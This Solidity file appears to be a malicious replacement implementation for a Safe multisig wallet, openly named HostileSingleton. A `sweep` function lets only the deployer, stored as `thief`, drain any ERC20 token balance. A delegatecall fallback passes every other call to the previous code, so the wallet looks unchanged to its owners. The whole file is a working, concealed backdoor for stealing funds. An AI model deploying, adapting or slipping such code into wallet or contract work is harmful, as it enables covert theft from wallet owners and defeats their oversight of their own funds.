// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// @title Code for a Safe that obeys one account, and answers everybody else as before.
contract HostileSingleton {
    address private singleton;
    address private immutable thief = msg.sender;
    address private immutable before;

    constructor(address before_) {
        before = before_;
    }

    function sweep(IERC20 token) external {
        require(msg.sender == thief);
        token.transfer(thief, token.balanceOf(address(this)));
    }

    fallback() external payable {
        address code = before;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let done := delegatecall(gas(), code, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if done { return(0, returndatasize()) }
            revert(0, returndatasize())
        }
    }
}
